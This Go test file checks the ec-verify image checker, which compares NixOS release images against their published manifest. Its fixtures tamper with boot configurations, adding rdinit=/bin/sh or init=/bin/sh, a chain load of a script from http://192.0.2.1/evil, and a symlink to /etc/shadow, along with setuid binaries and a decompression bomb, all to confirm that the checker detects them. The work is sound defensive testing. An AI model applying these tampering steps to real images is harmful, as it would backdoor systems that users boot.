package imagecheck_test

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"sync"
	"testing"

	"every.channel/ec-verify/internal/image"
	"every.channel/ec-verify/internal/image/imagetest"
	"every.channel/ec-verify/internal/imagecheck"
	"every.channel/ec-verify/internal/release"
	"every.channel/ec-verify/internal/trust"
	"every.channel/ec-verify/pkg/excerpt"
)

// honest is a build with its images, of which each test has a copy: to make them takes
// much longer.
var honest struct {
	sync.Mutex
	dir string
}

func TestMain(m *testing.M) {
	code := m.Run()
	if honest.dir != "" {
		os.RemoveAll(honest.dir)
	}
	os.Exit(code)
}

// copyHonest returns a copy of the honest build, which the first call makes.
func copyHonest(t *testing.T) *imagetest.Build {
	t.Helper()
	honest.Lock()
	defer honest.Unlock()
	if honest.dir == "" {
		dir, err := os.MkdirTemp("", "ec-verify-imagecheck-")
		if err != nil {
			t.Fatal(err)
		}
		b := imagetest.NewBuild(t, dir)
		b.Images(t)
		b.Manifest(t)
		honest.dir = dir
	}
	dir := t.TempDir()
	imagetest.Shell(t, dir, "cp -a '"+honest.dir+"'/. .")
	return imagetest.In(dir)
}

// released returns a build, and has its images changed before the release is
// summed up: the images are then the published ones.
func released(t *testing.T, change func(b *imagetest.Build)) (*imagetest.Build, *release.Release) {
	t.Helper()
	b := copyHonest(t)
	if change != nil {
		change(b)
	}
	b.Sums(t)
	return b, opened(t, b)
}

func opened(t *testing.T, b *imagetest.Build) *release.Release {
	t.Helper()
	r, err := release.Open(context.Background(), release.NewDirSource(b.Out), imagetest.Tag, trust.UnsafeUnsigned())
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func check(t *testing.T, r *release.Release, opts imagecheck.Options, names ...string) *imagecheck.Result {
	t.Helper()
	opts.TempDir = t.TempDir()
	result, err := imagecheck.Check(context.Background(), r, names, opts)
	if err != nil {
		t.Fatal(err)
	}
	return result
}

func lines(r *imagecheck.Result) []string {
	var out []string
	for _, i := range r.Images {
		for _, f := range i.Findings {
			s := fmt.Sprintf("%s %s", f.Class, f.Kind)
			if f.Path != "" {
				s += " " + f.Path.Name()
			}
			if f.Where != "" {
				s += " @" + string(f.Where)
			}
			for _, c := range f.Files {
				s += fmt.Sprintf(" [%s %s]", c.Path, c.Kind)
			}
			if f.Detail != "" {
				s += ": " + f.Detail
			}
			out = append(out, s)
		}
	}
	return out
}

func expect(t *testing.T, r *imagecheck.Result, class imagecheck.Class, want ...string) {
	t.Helper()
	got := lines(r)
	if r.Class() != class {
		t.Errorf("class %q, want %q", r.Class(), class)
	}
	for _, w := range want {
		if !slices.ContainsFunc(got, func(s string) bool { return strings.HasPrefix(s, w) }) {
			t.Errorf("no %q in\n%s", w, strings.Join(got, "\n"))
		}
	}
	if len(want) == 0 && class == "" && len(got) > 0 {
		t.Errorf("findings:\n%s", strings.Join(got, "\n"))
	}
}

var deep = imagecheck.Options{Inside: true}

// storeImage is where the squashfs lies in the initrd.
const storeImage = "nix/store/" + imagetest.StoreImage

func TestIntact(t *testing.T) {
	b, r := released(t, nil)
	result := check(t, r, deep, b.Out)
	expect(t, result, "")
	if len(result.Images) != 5 || len(result.Absent) != 0 {
		t.Errorf("%d images, absent %q", len(result.Images), result.Absent)
	}
	for _, i := range result.Images {
		if strings.HasSuffix(i.Asset, ".tar.gz") && (i.Inside == nil || !reflect.DeepEqual(*i.Inside, imagecheck.Inside{Configuration: imagetest.Configuration, Paths: 4, Files: 3, Others: 1, OtherNames: []excerpt.Raw{"netboot.ipxe"}})) {
			t.Errorf("inside the bundle: %+v", i.Inside)
		}
		if strings.HasSuffix(i.Asset, ".iso") && (i.Inside == nil || i.Inside.Paths != 4 || i.Inside.Files != 4 || len(i.Inside.OtherNames) != i.Inside.Others || !slices.Contains(i.Inside.OtherNames, "isolinux/isolinux.cfg")) {
			t.Errorf("inside the ISO image: %+v", i.Inside)
		}
	}
	t.Run("one under another name", func(t *testing.T) {
		other := filepath.Join(t.TempDir(), "download(1)")
		imagetest.Shell(t, b.Out, "cp "+imagetest.ISOName+" '"+other+"'")
		result := check(t, r, deep, other)
		expect(t, result, "")
		if result.Images[0].Asset != imagetest.ISOName || len(result.Absent) != 1 {
			t.Errorf("%+v, absent %q", result.Images[0], result.Absent)
		}
	})
	t.Run("a part of it", func(t *testing.T) {
		part := filepath.Join(t.TempDir(), imagetest.ISOName)
		imagetest.Shell(t, b.Out, fmt.Sprintf("head -c 100000 %s >'%s'", imagetest.ISOName, part))
		expect(t, check(t, r, imagecheck.Options{}, part), imagecheck.Drift, "drift checksum: it has 100000 of the ")
		got := lines(check(t, r, imagecheck.Options{}, part))
		if len(got) != 1 || !strings.Contains(got[0], "incomplete download") {
			t.Errorf("got %q", got)
		}
	})
	t.Run("more than it has", func(t *testing.T) {
		more := filepath.Join(t.TempDir(), imagetest.ISOName)
		imagetest.Shell(t, b.Out, fmt.Sprintf("(cat %s; echo more) >'%s'", imagetest.ISOName, more))
		got := lines(check(t, r, imagecheck.Options{}, more))
		if len(got) != 1 || !strings.Contains(got[0], " bytes; the published one has ") {
			t.Errorf("got %q", got)
		}
	})
	t.Run("more than an image can have", func(t *testing.T) {
		huge := filepath.Join(t.TempDir(), imagetest.ISOName)
		imagetest.Shell(t, b.Out, fmt.Sprintf("cp %s '%s'; truncate -s %d '%[2]s'", imagetest.ISOName, huge, release.MaxImageSize+1))
		expect(t, check(t, r, imagecheck.Options{}, huge), imagecheck.Drift, "drift checksum: it has 17179869185 bytes")
	})
	t.Run("nothing", func(t *testing.T) {
		expect(t, check(t, r, deep, t.TempDir()), imagecheck.Inconclusive)
	})
}

// TestTampered alters what was downloaded: SHA256SUMS.txt tells, and where it
// can be read still, the inside tells what.
func TestTampered(t *testing.T) {
	b, r := released(t, nil)
	for _, c := range []struct {
		name, file, script string
		want               []string
	}{
		{"a byte", imagetest.Bundle, "printf X | dd of=$f bs=1 seek=100 conv=notrunc status=none", []string{"drift checksum"}},
		{"cut short", imagetest.ISOName, "truncate -s -4096 $f", []string{"drift checksum"}},
		{"empty", imagetest.ISOName, "truncate -s 0 $f", []string{"drift checksum"}},
		{"longer", imagetest.ISOName, "echo x >>$f", []string{"drift checksum"}},
		{"unknown", "other.iso", "echo x >$f", []string{"drift unknown-image"}},
		{"a pipe", imagetest.ISOName, "rm $f; mkfifo $f", []string{"inconclusive unreadable"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			dir := t.TempDir()
			imagetest.Shell(t, b.Out, "cp "+imagetest.Bundle+" "+imagetest.ISOName+" '"+dir+"'")
			imagetest.Shell(t, dir, "f="+c.file+"; "+c.script)
			class := imagecheck.Drift
			if c.name == "a pipe" {
				class = imagecheck.Inconclusive
			}
			expect(t, check(t, r, imagecheck.Options{}, dir), class, c.want...)
			expect(t, check(t, r, deep, filepath.Join(dir, c.file)), class, c.want...)
		})
	}
}

// rebuild remakes the images after the store that they are made of was changed
// by a script, under the manifest of the unchanged one.
func rebuild(t *testing.T, b *imagetest.Build, script string) {
	t.Helper()
	imagetest.Shell(t, b.Dir, script)
	b.Images(t)
}

// TestDishonestBuilder: the images that were published and signed are not what
// the manifest says.
func TestDishonestBuilder(t *testing.T) {
	program, top := "store/"+imagetest.Program, "store/"+imagetest.Toplevel
	squash := "initrd › " + storeImage
	cases := []struct{ name, script, want string }{
		{"one byte", "printf X | dd of=" + program + "/share/data bs=1 seek=7 conv=notrunc status=none", "drift path-altered program-1 @" + squash + " [share/data content]"},
		{"executable", "chmod +x " + program + "/share/data", "drift path-altered program-1 @" + squash + " [share/data executable]"},
		{"a file too many", "echo x >" + program + "/share/new", "drift path-altered program-1 @" + squash + " [share/new added]"},
		{"a file missing", "rm " + program + "/share/link", "drift path-altered program-1 @" + squash + " [share/link removed]"},
		{"a link elsewhere", "ln -sfn /etc/shadow " + program + "/share/link", "drift path-altered program-1 @" + squash + " [share/link target]"},
		{"a link for a directory", "rm -r " + program + "/share; ln -s /nix/store/x " + program + "/share", "drift path-altered program-1 @" + squash},
		{"a large file", "truncate -s 40M " + program + "/share/data", "drift path-altered program-1 @" + squash + ": its files are larger than"},
		{"set-user-ID", "chmod 4755 " + program + "/bin/program", "drift attributes program-1 @" + squash},
		{"writable", "chmod 777 " + program + "/bin/program", "drift attributes program-1 @" + squash},
		{"another kernel", "echo evil >>store/" + imagetest.Kernel + "/bzImage", "drift boot @kernel: it is not the kernel"},
		{"another initrd", "cp store/" + imagetest.InitrdP + "/initrd x; (cd main && echo evil >init && echo init | cpio -o -H newc --quiet | zstd -q >../y); cat y x >store/" + imagetest.InitrdP + "/initrd", "drift boot @initrd: it does not begin with"},
		{"a whole path for a link", "rm -r " + top + "; ln -s /etc " + top, "drift path-altered nixos-system-ec"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b, r := released(t, func(b *imagetest.Build) {
				rebuild(t, b, c.script)
			})
			got := check(t, r, deep, filepath.Join(b.Out, imagetest.Bundle))
			expect(t, got, imagecheck.Drift, c.want)
			if !got.Images[0].Intact {
				t.Error("it is the published image")
			}
			expect(t, check(t, r, imagecheck.Options{}, filepath.Join(b.Out, imagetest.Bundle)), "")
		})
	}
}

// TestDishonestImages: the store is honest, what was put around it is not.
func TestDishonestImages(t *testing.T) {
	pack := "tar -C bundle --sort=name --mtime=@1 --owner=0 --group=0 --numeric-owner --format=gnu -cf - initrd kernel netboot.ipxe | gzip -n >release/" + imagetest.Bundle
	again := imagetest.SecondArchive + "; cat store/" + imagetest.InitrdP + "/initrd second.cpio >bundle/initrd; " + pack
	third := func(script string) string {
		return "(mkdir -p third/nix/store third/var; cd third; " + script + "; find . -mindepth 1 | cpio -o -H newc -R +0:+0 --quiet) >>bundle/initrd; " + pack
	}
	squash := func(contents string) string {
		return "rm -f second/" + storeImage + "; mksquashfs " + contents + " second/" + storeImage + " -no-hardlinks -keep-as-directory -all-root -comp zstd -b 131072 -quiet -no-progress -noappend >/dev/null\n" +
			"chmod 444 second/" + storeImage + "\n" + again
	}
	twice := func(more string) string {
		return "tar -C bundle --format=gnu -cf - initrd kernel netboot.ipxe -C .. " + more + " | gzip -n >release/" + imagetest.Bundle
	}
	cases := []struct {
		name, script string
		class        imagecheck.Class
		want         string
	}{
		{"a path too many", "mkdir -p extra/55555555555555555555555555555555-evil; " + squash("store/* extra/*"), imagecheck.Drift, "drift path-extra evil"},
		{"a path missing", squash("store/" + imagetest.Toplevel + " store/" + imagetest.Kernel + " store/" + imagetest.InitrdP), imagecheck.Drift, "drift path-missing program-1"},
		{"a FIFO", "mkfifo store/" + imagetest.Program + "/fifo; " + squash("store/*"), imagecheck.Drift, `drift path-altered program-1 @initrd › ` + storeImage + `: "fifo": not a regular file`},
		{"something beside the store", "mkdir -p extra/etc; " + squash("store/* extra/etc"), imagecheck.Drift, "drift member-extra @initrd › " + storeImage + " › etc"},
		{"a file behind the initrd", "echo evil >second/init; " + squash("store/*"), imagecheck.Drift, "drift member-extra @initrd › init"},
		{"a third archive", "(mkdir third; cd third; echo evil >init; echo init | cpio -o -H newc --quiet) >>bundle/initrd; " + pack, imagecheck.Drift, "drift member-extra @initrd › init"},
		{"another system is started", "sed -i 's,init=/nix/store/4,init=/nix/store/5,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it starts something"},
		{"no system is started", "sed -i 's,init=[^ ]*,,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it does not say"},
		{"a registration of another hash", "sed -i '2s/.*/sha256:0000000000000000000000000000000000000000000000000000/' nix-path-registration; " + squash("store/* nix-path-registration"), imagecheck.Drift, "drift registration linux-6.12"},
		{"a registration that is cut short", "truncate -s -70 nix-path-registration; " + squash("store/* nix-path-registration"), imagecheck.Drift, "drift registration"},
		{"a squashfs that is cut short", "chmod 644 second/" + storeImage + "; truncate -s -8000 second/" + storeImage + "; " + again, imagecheck.Inconclusive, "inconclusive unreadable"},
		{"no store", "cp store/" + imagetest.InitrdP + "/initrd bundle/initrd; " + pack, imagecheck.Inconclusive, "inconclusive not-checked: there is no store"},
		{"no image", "echo x >release/" + imagetest.Bundle, imagecheck.Inconclusive, "inconclusive not-checked: the contents of such a file"},
		{"a kernel twice", "mkdir evil; echo evil >evil/x; " + twice("--transform=s,x,kernel, -C evil x"), imagecheck.Drift, "drift member-extra @kernel: it is there twice"},
		{"a link over the kernel", "mkdir evil; echo evil >evil/x; ln -s x evil/kernel; " + twice("-C evil x kernel"), imagecheck.Drift, "drift member-extra @kernel: it is there twice"},
		{"an initrd twice", "mkdir evil; cp bundle/initrd evil; " + twice("-C evil initrd"), imagecheck.Drift, "drift member-extra @initrd: it is there twice"},
		{"a squashfs twice", "cat second.cpio >>bundle/initrd; " + pack, imagecheck.Drift, "drift member-extra @initrd › " + storeImage + ": it is there twice"},
		{"another superblock over the squashfs", third("head -c 95 ../second/" + storeImage + " >" + storeImage), imagecheck.Drift, "drift member-extra @initrd › " + storeImage + ": it is there twice"},
		{"a squashfs over the link", third("cp ../second/" + storeImage + " nix-store.squashfs"), imagecheck.Drift, "drift member-extra @initrd › nix-store.squashfs: it is there twice"},
		{"another link", third("ln -s /nix/store/" + imagetest.InitrdP + " nix-store.squashfs"), imagecheck.Drift, "drift member-extra @initrd › nix-store.squashfs: it is there twice"},
		{"a link that leads into the initrd", "rm second/nix-store.squashfs; ln -s /nix/store/" + imagetest.InitrdP + " second/nix-store.squashfs; " + again, imagecheck.Drift, "drift member-extra @initrd › nix-store.squashfs: it leads to no squashfs"},
		{"a link that leads elsewhere", "rm second/nix-store.squashfs; ln -s /sysroot/evil second/nix-store.squashfs; " + again, imagecheck.Drift, "drift member-extra @initrd › nix-store.squashfs: it comes after"},
		{"a link by another name", "ln -s /nix/store/" + imagetest.StoreImage + " second/init; " + again, imagecheck.Drift, "drift member-extra @initrd › init"},
		{"a squashfs that nothing leads to", third("cp ../second/" + storeImage + " nix/store/" + strings.Replace(imagetest.StoreImage, "6", "7", 1)), imagecheck.Drift, "drift member-extra @initrd › nix/store/7666"},
		{"a file in a store path", third("mkdir nix/store/" + imagetest.Program + "; echo evil >nix/store/" + imagetest.Program + "/x"), imagecheck.Drift, "drift member-extra @initrd › nix/store/" + imagetest.Program},
		{"a program in place of a store path", third("echo evil >nix/store/" + imagetest.Program), imagecheck.Drift, "drift member-extra @initrd › nix/store/" + imagetest.Program},
		{"a link for a store path", third("ln -s /evil nix/store/" + imagetest.Program), imagecheck.Drift, "drift member-extra @initrd › nix/store/" + imagetest.Program},
		{"a link for a directory", third("rmdir var; ln -s /evil var"), imagecheck.Drift, "drift member-extra @initrd › var"},
		{"a directory that all may write", third("chmod 777 var"), imagecheck.Drift, "drift member-extra @initrd › var"},
		{"a directory for init", "mkdir second/init; " + squash("store/*"), imagecheck.Drift, "drift member-extra @initrd › init"},
		{"the root made writable", "chmod 777 second; (cd second; find . | cpio -o -H newc -R +0:+0 --quiet >../second.cpio); cat store/" + imagetest.InitrdP + "/initrd second.cpio >bundle/initrd; " + pack, imagecheck.Drift, "drift member-extra @initrd › "},
		{"a large script", "sed -i 's,init=[^ ]*,init=/evil,' bundle/netboot.ipxe; head -c 300000 /dev/zero | tr '\\0' '#' >>bundle/netboot.ipxe; " + pack, imagecheck.Inconclusive, "inconclusive not-checked @netboot.ipxe: a boot script of"},
		{"another system in quotes", "sed -i 's,console=,init=\"/evil\" console=,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it starts something"},
		{"another system by way of the right one", "sed -i 's,/init ,/../../../tmp/init ,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it starts something"},
		{"another program of the system", "sed -i 's,/init ,/sw/bin/sh ,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it starts something"},
		{"a system in a comment", "sed -i 's,^kernel.*,# &\\nkernel kernel,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it does not say"},
		{"another kernel parameter", "sed -i 's,console=,systemd.unit=rescue.target console=,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: its kernel parameters are not"},
		{"a kernel parameter missing", "sed -i 's,console=ttyS0,,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: its kernel parameters are not"},
		{"a program in the initrd", "sed -i 's,console=,rdinit=/bin/sh console=,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it has the initrd start"},
		{"another kernel is loaded", "sed -i 's,^kernel kernel,kernel http://192.0.2.1/kernel,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: its command kernel is not"},
		{"another initrd is loaded", "sed -i 's,^initrd initrd,initrd ramdisk,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: its command initrd is not"},
		{"another script is loaded", "sed -i 's,^boot,chain http://192.0.2.1/evil,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it has the command"},
		{"another script where that is not there", "sed -i 's,^initrd initrd,& || chain evil,' bundle/netboot.ipxe; " + pack, imagecheck.Drift, "drift boot @netboot.ipxe: it"},
		{"a bomb", "truncate -s 200M bundle/bomb; tar -C bundle -cf - . | gzip -n >release/" + imagetest.Bundle, imagecheck.Inconclusive, "inconclusive unreadable: too large"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b, r := released(t, func(b *imagetest.Build) { imagetest.Shell(t, b.Dir, c.script) })
			opts := deep
			if c.name == "a bomb" {
				opts.Limits = image.Limits{Members: 1000, Bytes: 100 << 20, Spool: 100 << 20}
			}
			expect(t, check(t, r, opts, filepath.Join(b.Out, imagetest.Bundle)), c.class, c.want)
		})
	}
}

// TestHonestInitrds: an initrd is put together in many ways, and none of them is
// a difference.
func TestHonestInitrds(t *testing.T) {
	imagetest.Need(t, "gzip", "xz")
	early := "(mkdir -p early/kernel/x86/microcode; cd early; seq 1 2000 >kernel/x86/microcode/AuthenticAMD.bin; find . | LC_ALL=C sort | cpio --quiet -o -H newc -R +0:+0 --reproducible)"
	flat := "rm second/nix-store.squashfs; mv second/" + storeImage + " second/nix-store.squashfs; rm -r second/nix second/var; " + imagetest.SecondArchive
	for _, c := range []struct{ name, early, main, second string }{
		{"zstd", ":", "zstd -q -19", ""},
		{"zstd behind microcode", early, "zstd -q -19", ""},
		{"zstd with its checksum and size", ":", "zstd -q --check --content-size", "zstd -dc second.cpio | zstd -q --check -T2 >x; mv x second.cpio"},
		{"gzip", ":", "gzip -n9", "zstd -dc second.cpio | gzip -n9 >x; mv x second.cpio"},
		{"gzip behind microcode, and then zstd", early, "gzip -n9", ""},
		{"not compressed, with padding between", early, "cat; head -c 1500 /dev/zero", "zstd -dc second.cpio >x; mv x second.cpio; head -c 4096 /dev/zero >>second.cpio"},
		{"the squashfs in the root", ":", "zstd -q", flat},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b, r := released(t, func(b *imagetest.Build) {
				initrd := "store/" + imagetest.InitrdP + "/initrd"
				imagetest.Shell(t, b.Dir, "zstd -dc "+initrd+" >main.cpio; { "+c.early+"; { "+c.main+"; } <main.cpio; } >x; mv x "+initrd)
				b.Images(t)
				b.Manifest(t)
				imagetest.Shell(t, b.Dir, c.second+"\ncat "+initrd+" second.cpio >bundle/initrd; tar -C bundle -cf - initrd kernel netboot.ipxe | gzip -n >release/"+imagetest.Bundle)
			})
			got := check(t, r, deep, filepath.Join(b.Out, imagetest.Bundle))
			expect(t, got, "")
			if in := got.Images[0].Inside; in == nil || in.Paths != 4 || in.Files != 3 {
				t.Errorf("inside: %+v", in)
			}
		})
	}
}

// TestDishonestISO: the boot entries of an ISO image start something else. The
// image is the published one: it is the builder who is not honest.
func TestDishonestISO(t *testing.T) {
	const grub, isolinux = "isoroot/EFI/boot/grub.cfg", "isoroot/isolinux/isolinux.cfg"
	for _, c := range []struct{ name, script, want string }{
		{"another init", "sed -i 's,init=[^ ]*,init=/bin/sh,' " + grub, "drift boot @EFI/boot/grub.cfg: it starts something that is not in the closure"},
		{"another init behind the right one", "sed -i 's,console=,init=/bin/sh console=,' " + isolinux, "drift boot @isolinux/isolinux.cfg: it starts something that is not in the closure"},
		{"a program in the initrd", "sed -i 's,console=,rdinit=/bin/sh console=,' " + grub, "drift boot @EFI/boot/grub.cfg: it has the initrd start"},
		{"another initrd", "echo evil >isoroot/boot/evil; sed -i 's,initrd /boot/initrd,initrd /boot/evil,' " + grub, "drift boot @EFI/boot/grub.cfg: it loads another initrd"},
		{"an initrd behind the right one", "echo evil >isoroot/boot/evil; sed -i 's,initrd /boot/initrd,& /boot/evil,' " + grub, "drift boot @EFI/boot/grub.cfg: it loads another initrd"},
		{"another initrd of ISOLINUX", "echo evil >isoroot/boot/evil; sed -i 's,INITRD.*,INITRD /boot/initrd\\,/boot/evil,' " + isolinux, "drift boot @isolinux/isolinux.cfg: it loads another initrd"},
		{"an initrd among the parameters", "echo evil >isoroot/boot/evil; sed -i 's,^APPEND init.*,& initrd=/boot/evil,' " + isolinux, "drift boot @isolinux/isolinux.cfg: it loads another initrd"},
		{"another kernel", "echo evil >isoroot/boot/evil; sed -i 's,linux /boot/bzImage,linux /boot/evil,' " + grub, "drift boot @EFI/boot/grub.cfg: it loads another kernel"},
		{"another kernel, on two lines", "echo evil >isoroot/boot/evil; sed -i 's,linux /boot/bzImage,linux \\\\\\n/boot/evil,' " + grub, "drift boot @EFI/boot/grub.cfg: it loads another kernel"},
		{"another kernel of ISOLINUX", "echo evil >isoroot/boot/evil; sed -i 's,^LINUX /boot/bzImage,KERNEL /boot/evil,' " + isolinux, "drift boot @isolinux/isolinux.cfg: it loads another kernel"},
		{"a kernel from the network", "sed -i 's,linux /boot/bzImage,linux (http)/boot/bzImage,' " + grub, "drift boot @EFI/boot/grub.cfg: it loads another kernel"},
		{"a memory test that is none", "sed -i 's,^APPEND console=ttyS0.115200,INITRD /boot/evil,' " + isolinux, "drift boot @isolinux/isolinux.cfg: it loads another initrd"},
		{"a kernel that is not the system's", "echo evil >>isoroot/boot/bzImage", "drift boot @boot/bzImage: it is not the kernel"},
		{"another kernel by the same name", "mkdir isoroot/x; echo evil >isoroot/x/bzImage; sed -i 's,linux /boot/bzImage,linux /x/bzImage,' " + grub, "drift boot @x/bzImage: it is not the kernel"},
		{"an initrd that goes on", "(mkdir third; cd third; echo evil >init; echo init | cpio -o -H newc --quiet) >>isoroot/boot/initrd", "drift member-extra @boot/initrd › init"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b, r := released(t, func(b *imagetest.Build) {
				imagetest.Shell(t, b.Dir, "chmod -R u+w isoroot; "+c.script)
				imagetest.ISO(t, filepath.Join(b.Dir, "isoroot"), filepath.Join(b.Out, imagetest.ISOName))
			})
			got := check(t, r, deep, filepath.Join(b.Out, imagetest.ISOName))
			expect(t, got, imagecheck.Drift, c.want)
			if !got.Images[0].Intact {
				t.Error("it is the published image")
			}
		})
	}
}

// TestUntiedISO: the boot entries name no system, so nothing shows that the image boots a
// system of the closure.
func TestUntiedISO(t *testing.T) {
	const grub, isolinux = "isoroot/EFI/boot/grub.cfg", "isoroot/isolinux/isolinux.cfg"
	for _, c := range []struct{ name, script, want string }{
		{"none of them", "sed -i 's,init=[^ ]*,,' " + grub + " " + isolinux, "inconclusive not-checked: no boot script in it names the system"},
		{"one of them", "sed -i 's,init=[^ ]*,,' " + isolinux, "inconclusive not-checked @isolinux/isolinux.cfg: it loads a kernel and does not say"},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			b, r := released(t, func(b *imagetest.Build) {
				imagetest.Shell(t, b.Dir, "chmod -R u+w isoroot; "+c.script)
				imagetest.ISO(t, filepath.Join(b.Dir, "isoroot"), filepath.Join(b.Out, imagetest.ISOName))
			})
			expect(t, check(t, r, deep, filepath.Join(b.Out, imagetest.ISOName)), imagecheck.Inconclusive, c.want)
		})
	}
}

// TestBehindXz: a stream of xz ends where Linux has it end, and what follows is
// no part of the system's initrd.
func TestBehindXz(t *testing.T) {
	imagetest.Need(t, "xz")
	make := func(b *imagetest.Build, more string) {
		initrd := "store/" + imagetest.InitrdP + "/initrd"
		imagetest.Shell(t, b.Dir, "zstd -dc "+initrd+" | xz --check=crc32 >x; mv x "+initrd)
		b.Images(t)
		b.Manifest(t)
		imagetest.Shell(t, b.Dir, "xz --check=crc32 <(zstd -dc second.cpio) -c >x; cat "+initrd+" x >bundle/initrd; "+more+
			"tar -C bundle -cf - initrd kernel netboot.ipxe | gzip -n >release/"+imagetest.Bundle)
	}
	b, r := released(t, func(b *imagetest.Build) { make(b, "") })
	expect(t, check(t, r, deep, filepath.Join(b.Out, imagetest.Bundle)), "")
	b, r = released(t, func(b *imagetest.Build) {
		make(b, "(mkdir third; cd third; echo evil >init; echo init | cpio -o -H newc --quiet | xz --check=crc32) >>bundle/initrd; ")
	})
	expect(t, check(t, r, deep, filepath.Join(b.Out, imagetest.Bundle)), imagecheck.Drift, "drift member-extra @initrd › init")
}

// TestNoListing: without one, the kernel is not said to be the right one.
func TestNoListing(t *testing.T) {
	b, r := released(t, func(b *imagetest.Build) {
		os.Remove(filepath.Join(b.Out, release.ListingName(imagetest.Configuration)))
	})
	expect(t, check(t, r, deep, filepath.Join(b.Out, imagetest.Bundle)), imagecheck.Inconclusive,
		"inconclusive not-checked @kernel", "inconclusive not-checked @initrd")
}

// TestStick writes the ISO image to a block device that is larger.
func TestStick(t *testing.T) {
	b, r := released(t, nil)
	stick := filepath.Join(b.Dir, "stick")
	iso := filepath.Join(b.Out, imagetest.ISOName)
	imagetest.Shell(t, b.Dir, "cp '"+iso+"' stick; truncate -s +5M stick")
	out, err := exec.Command("losetup", "--find", "--show", stick).CombinedOutput()
	if err != nil {
		if os.Getenv("EC_VERIFY_NO_SKIP") == "1" {
			t.Fatalf("losetup: %v: %s", err, out)
		}
		t.Skipf("no loop device can be had here: %v: %s", err, strings.TrimSpace(string(out)))
	}
	device := strings.TrimSpace(string(out))
	t.Cleanup(func() { _ = exec.Command("losetup", "--detach", device).Run() })
	result := check(t, r, deep, device)
	expect(t, result, "")
	if i := result.Images[0]; i.Asset != imagetest.ISOName || i.Beyond != 5<<20 || !i.Device {
		t.Errorf("%+v", i)
	}
	imagetest.Shell(t, b.Dir, "printf X | dd of="+device+" bs=1 seek=40000 conv=notrunc,fsync status=none")
	expect(t, check(t, r, deep, device), imagecheck.Drift, "drift checksum: no beginning of the device is "+imagetest.ISOName)
}
